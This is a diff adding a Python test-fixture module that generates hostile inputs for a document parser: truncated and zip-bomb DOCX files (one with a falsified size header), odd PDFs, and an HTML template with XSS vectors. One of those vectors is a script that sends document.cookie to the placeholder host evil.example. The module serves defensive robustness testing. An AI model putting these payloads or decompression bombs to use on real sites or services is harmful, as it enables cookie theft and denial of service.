@@ -1,0 +1,167 @@
+"""Builders of broken, hostile and odd input files, all generated in memory (nothing shipped).
+
+Each builder returns bytes; ``docx_bytes`` and ``image_only_pdf`` build valid files that the
+others damage.
+"""
+
+from __future__ import annotations
+
+import functools
+import io
+import zipfile
+
+from .helpers import make_doc
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def docx_bytes(paragraphs: list[str]) -> bytes:
+    import docx
+
+    d = docx.Document()
+    for p in paragraphs:
+        d.add_paragraph(p)
+    buf = io.BytesIO()
+    d.save(buf)
+    return buf.getvalue()
+
+
+def _rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            zout.writestr(info.filename, replace.get(info.filename, zin.read(info)))
+    return out.getvalue()
+
+
+def docx_bad_xml() -> bytes:
+    good = docx_bytes(make_doc(3).splitlines())
+    with zipfile.ZipFile(io.BytesIO(good)) as z:
+        xml = z.read("word/document.xml")
+    return _rezip(good, {"word/document.xml": xml[: len(xml) // 2]})
+
+
+@functools.lru_cache(maxsize=4)
+def docx_bomb(megabytes: int = 300) -> bytes:
+    """A .docx whose document.xml inflates to ``megabytes`` MB; streamed, so building it stays small."""
+    good = docx_bytes(["标题"])
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(good)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            if info.filename != "word/document.xml":
+                zout.writestr(info.filename, zin.read(info))
+                continue
+            zi = zipfile.ZipInfo("word/document.xml")
+            zi.compress_type = zipfile.ZIP_DEFLATED
+            with zout.open(zi, "w", force_zip64=True) as fh:
+                fh.write(f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'.encode())
+                block = "数据".encode() * (1 << 18)  # 1.5 MB of text, compresses ~1000:1
+                for _ in range(megabytes * 2 // 3):
+                    fh.write(block)
+                fh.write(b"</w:t></w:r></w:p></w:body></w:document>")
+    return out.getvalue()
+
+
+@functools.lru_cache(maxsize=1)
+def docx_lying_bomb() -> bytes:
+    """The bomb again, but its directory claims document.xml is 2 MB: a reader must not trust that."""
+    data = bytearray(docx_bomb(200))
+    name = b"word/document.xml"
+    pos = 0
+    while True:  # patch the uncompressed size in the central directory (and zip64 extra) entries
+        pos = data.find(b"PK\x01\x02", pos)
+        if pos < 0:
+            break
+        n = int.from_bytes(data[pos + 28 : pos + 30], "little")
+        m = int.from_bytes(data[pos + 30 : pos + 32], "little")
+        if bytes(data[pos + 46 : pos + 46 + n]) == name:
+            claimed = 2 * 1024 * 1024
+            if int.from_bytes(data[pos + 24 : pos + 28], "little") == 0xFFFFFFFF:
+                extra = pos + 46 + n
+                end = extra + m
+                while extra < end:  # zip64 extra block: tag 1, first field is the uncompressed size
+                    tag = int.from_bytes(data[extra : extra + 2], "little")
+                    size = int.from_bytes(data[extra + 2 : extra + 4], "little")
+                    if tag == 1:
+                        data[extra + 4 : extra + 12] = claimed.to_bytes(8, "little")
+                        break
+                    extra += 4 + size
+            else:
+                data[pos + 24 : pos + 28] = claimed.to_bytes(4, "little")
+        pos += 4
+    return bytes(data)
+
+
+def _pdf(objects: list[bytes]) -> bytes:
+    """Assemble numbered objects (1..n, the first the catalog) into a PDF with a correct xref."""
+    out = bytearray(b"%PDF-1.4\n")
+    offsets = []
+    for i, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+def image_only_pdf() -> bytes:
+    """A valid one-page PDF that paints an 8x8 grey image and has no text operators (a 'scan')."""
+    pixels = bytes(range(0, 256, 4))
+    content = b"q 200 0 0 200 50 50 cm /Im0 Do Q"
+    return _pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Resources << /XObject << /Im0 5 0 R >> >> "
+        b"/Contents 4 0 R >>",
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+        b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 "
+        b"/Length %d >>\nstream\n" % len(pixels) + pixels + b"\nendstream",
+    ])
+
+
+def blank_pdf() -> bytes:
+    from pypdf import PdfWriter
+
+    w = PdfWriter()
+    w.add_blank_page(200, 200)
+    buf = io.BytesIO()
+    w.write(buf)
+    return buf.getvalue()
+
+
+def encrypted_pdf() -> bytes:
+    from pypdf import PdfWriter
+
+    w = PdfWriter()
+    w.add_blank_page(200, 200)
+    w.encrypt("secret")
+    buf = io.BytesIO()
+    w.write(buf)
+    return buf.getvalue()
+
+
+HOSTILE_HTML = """<!DOCTYPE html><html><head><title>{title}</title>
+<meta http-equiv="refresh" content="0;url=http://evil.example/">
+<script>document.write("SCRIPT_PAYLOAD"); fetch("http://evil.example/steal?c=" + document.cookie)</script>
+<script src="http://evil.example/x.js"></script>
+<link rel="stylesheet" href="http://evil.example/x.css"><style>body {{ background: url(http://evil.example/bg.png) }}</style>
+</head><body onload="steal()">
+<iframe src="http://evil.example/frame">IFRAME_PAYLOAD</iframe>
+<img src="http://tracker.example/pixel.gif?id=1" width="1" height="1" alt="">
+<img src="https://cdn.example/figure.png" onerror="alert('ONERROR_PAYLOAD')">
+<object data="http://evil.example/x.swf">OBJECT_PAYLOAD</object>
+<noscript>NOSCRIPT_PAYLOAD</noscript>
+<h1>{title}</h1>
+{paragraphs}
+<p><a href="javascript:alert('LINK_PAYLOAD')">附件下载</a></p>
+<svg><script>alert("SVG_PAYLOAD")</script></svg>
+<script>alert("TAIL_PAYLOAD")</script>
+</body></html>"""
+
+
+def hostile_html(i: int) -> bytes:
+    lines = make_doc(i).splitlines()
+    paras = "\n".join(f"<p>{line}</p>" for line in lines[1:] if line.strip())
+    return HOSTILE_HTML.format(title=lines[0], paragraphs=paras).encode("utf-8")
